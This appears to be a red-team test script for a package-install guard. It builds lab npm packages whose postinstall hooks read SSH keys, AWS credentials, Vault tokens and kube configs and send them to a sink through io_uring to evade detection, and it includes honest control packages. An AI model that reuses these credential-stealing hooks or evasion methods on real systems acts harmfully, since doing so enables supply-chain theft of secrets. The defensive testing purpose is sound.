#!/bin/bash
# R33: a key is read and sent by io_uring alone, plain, with a kernel thread, and as one chain; node
# with libuv's io_uring.
#
# Honest programs that only set up a ring, or ask libuv to, must pass.
set -u
cd "$(dirname "$0")/../.." || exit 2
. tests/redteam/lib.sh

rt_begin R33 'io_uring'
[ "$(cat /proc/sys/kernel/io_uring_disabled 2>/dev/null || echo 0)" = 0 ] ||
	{ echo 'SKIP: io_uring is switched off here'; exit 77; }
rt_package ring-plain-x 1.0.0 - postinstall "./bin/open uring ~/.ssh/id_ed25519 $RT_SINK; true" open
rt_package ring-poll-x 1.0.0 - postinstall \
	"./bin/open uring-sqpoll ~/.aws/credentials $RT_SINK; true" open
rt_package ring-node-x 1.0.0 - postinstall "UV_USE_IO_URING=1 node steal.js"
cat >"$LAB/packages/ring-node-x/steal.js" <<-'JS'
	const { home, post, fs } = require('./kit.js');
	fs.readFile(home('.vault-token'), 'utf8', (e, vault) => {
		if (!e) post('/ring', { vault });
	});
JS
# The package was published before steal.js existed: publish it again, with the file, as the next
# version.
(cd "$LAB/packages/ring-node-x" && npm version --no-git-tag-version 1.0.1 >/dev/null) &&
	lab_publish "$LAB/packages/ring-node-x"
RT_ATTACKERS[2]='ring-node-x 1.0.1 postinstall'
attackers=("${RT_ATTACKERS[@]}")
rt_package honest-ring-x 1.0.0 - postinstall './bin/tamper uring-setup || true' tamper
read="require('fs').readFile('package.json', (e) => process.exit(e ? 1 : 0))"
rt_package honest-libuv-x 1.0.0 - postinstall "UV_USE_IO_URING=1 node -e \"$read\""
RT_ATTACKERS=("${attackers[@]}")

rt_control
rt_leaked .ssh/id_ed25519 .aws/credentials .vault-token

if rt_guarded; then
	rt_stopped ring-node-x '^(secrets)$' # without a ring libuv reads by ordinary calls
	rt_withheld ring-plain-x no-io-uring '^(secrets)$'
	rt_withheld ring-poll-x no-io-uring '^(secrets)$'
	for name in honest-ring-x honest-libuv-x; do
		rt_ok "$name is installed" [ -f "$RT_PROJECT/node_modules/$name/package.json" ]
	done
fi

# A run of its own: open into a fixed slot, read and send are one chain, so that the file never gets
# a descriptor.
RT_DEPENDENCIES=() RT_ATTACKERS=()
rt_package ring-chain-x 1.0.0 - postinstall "./bin/race uring ~/.kube/config $RT_SINK; true" race
rt_control chain
rt_leaked .kube/config
if rt_guarded chain; then
	rt_withheld ring-chain-x no-io-uring '^(secrets|engine-unresolved)$'
	if rt_withholds no-io-uring; then
		rt_peaceful
		rt_silent
	else
		rt_stopped
	fi
fi
rt_end
